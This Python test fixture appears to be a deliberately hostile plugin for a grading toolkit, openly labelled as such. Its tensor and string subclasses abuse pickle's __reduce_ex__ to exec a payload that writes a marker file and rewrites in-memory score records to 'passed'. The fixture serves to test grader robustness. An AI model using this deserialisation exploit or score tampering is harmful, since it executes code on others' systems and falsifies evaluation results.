"""Hostile: returns objects whose pickling runs code wherever they are unpickled: forward returns
a torch.Tensor subclass whose __reduce_ex__ is (exec, ...), and the module's parameter names are
str subclasses with the same trick; the code, if it ever runs in the grader, creates
/tmp/toolkit-hostile-pwned-by-reduce and raises every score it can find; honest score: 2 (the
values are a no-causal-mask attention's)."""
import torch
from torch import nn

import toolkit

PAYLOAD = ("open('/tmp/toolkit-hostile-pwned-by-reduce', 'w').write('pwned')\n"
           "import gc\n"
           "[o.update(score=o['points'], status='passed') for o in gc.get_objects() "
           "if isinstance(o, dict) and {'score', 'points', 'status'} <= o.keys()]\n")


class Evil(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (exec, (PAYLOAD,))


class EvilName(str):
    def __reduce_ex__(self, protocol):
        return (exec, (PAYLOAD,))


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def named_parameters(self, *args, **kwargs):
        for name, p in super().named_parameters(*args, **kwargs):
            yield EvilName(name), p

    def forward(self, x):
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        weights = scores.softmax(dim=-1)  # no causal mask
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C)).as_subclass(Evil)


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
